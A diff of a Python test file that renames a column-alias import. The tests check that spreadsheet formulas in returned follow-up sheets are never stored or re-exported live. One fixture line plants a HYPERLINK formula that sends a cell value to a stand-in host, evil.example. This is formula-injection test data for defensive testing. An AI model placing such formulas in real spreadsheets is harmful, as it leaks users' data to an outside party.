@@ -23,7 +23,7 @@ import dealresearch as dr
 from dealresearch.cli.survey_plan import survey_plan_command
 from dealresearch.fieldwork.followups import _header, export_followups
 from dealresearch.ingest import textpii
-from dealresearch.satisfaction.followup_list import F
+from dealresearch.satisfaction.followup_list import FollowupColumns
 
 
 @pytest.fixture(scope="module")
@@ -97,7 +97,7 @@ def _returned_sheet(path: Path, ids: list[str]) -> Path:
     """A follow-up sheet as it comes back: a formula in 处理结果, formula-like text in 责任人."""
     book = openpyxl.Workbook()
     ws = book.active
-    ws.append([_header(F.followup_id), _header(F.status), _header(F.result), _header(F.owner)])
+    ws.append([_header(FollowupColumns.followup_id), _header(FollowupColumns.status), _header(FollowupColumns.result), _header(FollowupColumns.owner)])
     for i, fid in enumerate(ids, start=2):
         ws.append([fid, "处理中", None, None])
         ws.cell(i, 3).value = f'=HYPERLINK("http://evil.example/?d="&A{i},"x")'  # a live formula
@@ -111,7 +111,7 @@ def _returned_sheet(path: Path, ids: list[str]) -> Path:
 def test_returned_sheet_formulas_are_never_stored_nor_come_back(store, tmp_path):
     surveys = dr.load("surveys", store=store)
     first = export_followups(surveys, tmp_path / "a.xlsx", period="2026Q3", store=store)
-    ids = list(first[F.followup_id].astype(str))[:3]
+    ids = list(first[FollowupColumns.followup_id].astype(str))[:3]
     assert H.live_formula_cells(returned := _returned_sheet(tmp_path / "回收.xlsx", ids))  # sanity
     export_followups(surveys, tmp_path / "b.xlsx", period="2026Q3", updates_path=returned, store=store)
     stored = dr.load("followup_updates", store=store)
@@ -187,10 +187,10 @@ def test_an_id_starting_like_a_formula_round_trips(store, tmp_path):
     assert "'-SV-0000" in shown and H.live_formula_cells(sheet) == []
     returned = tmp_path / "back.xlsx"
     book = openpyxl.Workbook()
-    book.active.append([_header(F.followup_id), _header(F.status)])
+    book.active.append([_header(FollowupColumns.followup_id), _header(FollowupColumns.status)])
     book.active.append(["'-SV-0000", "处理中"])  # copied from the list as shown
     book.save(returned)
     fu = export_followups(
         surveys, tmp_path / "again.xlsx", period="2026Q3", updates_path=returned, store=tmp_path / "other"
     )
-    assert fu.set_index(F.followup_id).loc["-SV-0000", F.status] == "处理中"
+    assert fu.set_index(FollowupColumns.followup_id).loc["-SV-0000", FollowupColumns.status] == "处理中"
